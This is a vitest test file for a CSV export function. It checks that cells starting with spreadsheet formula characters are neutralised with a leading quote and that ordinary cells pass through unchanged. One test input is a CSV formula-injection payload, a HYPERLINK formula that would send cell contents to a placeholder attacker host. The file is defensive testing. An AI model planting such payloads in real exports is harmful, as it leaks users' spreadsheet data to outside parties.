import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { csvOf } from './csv.ts'

test.each([
  '=1+1',
  '=1+1\nx',
  '=1+1\r\nx',
  '+66\n1',
  '-2+3\nx',
  '@SUM(A1)\rx',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '＝1+1\nx',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")\ny',
])('a cell of %j is disarmed, as a value and as the name of a column', async (text) => {
  const { data } = Papa.parse<string[]>((await csvOf([text], [[text]])).slice(1))
  expect(data).toEqual([[`'${text}`], [`'${text}`]])
})

test.each(['ก\n=1', 'a-b', '1', 'x@y.example'])('a cell of %j stays as it is', async (text) => {
  const { data } = Papa.parse<string[]>((await csvOf(['a'], [[text]])).slice(1))
  expect(data[1]).toEqual([text])
})

test('a negative number is a number', async () => {
  expect(await csvOf(['a'], [[-5]])).toBe('\uFEFFa\r\n-5')
})
